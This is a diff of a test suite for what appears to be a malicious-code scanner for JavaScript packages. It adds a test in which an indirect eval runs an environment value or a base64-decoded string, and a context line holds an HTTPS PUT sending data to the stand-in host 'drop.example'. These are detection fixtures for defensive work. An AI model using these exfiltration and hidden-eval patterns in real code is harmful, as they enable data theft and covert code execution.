@@ -142,6 +142,14 @@ require('https').request({ host: 'drop.example', method: 'PUT', path: '/' }).end
     });
     expect(threatsOf(r, 0.8)).toContain('data_exfiltration');
   });
+  it('a || b and c ? a : b keep the taint of both sides', () => {
+    const r = analyzeSource({
+      'e.js': `const alias = (0, eval);
+const src = process.env.npm_package_config_boot || Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString();
+alias(src);`,
+    });
+    expect(threatsOf(r, 0.8)).toContain('malicious_code');
+  });
   it('recursion and huge call counts stay bounded', () => {
     const body = Array.from({ length: 3000 }, (_, i) => `f(${i});`).join('\n');
     const t0 = performance.now();
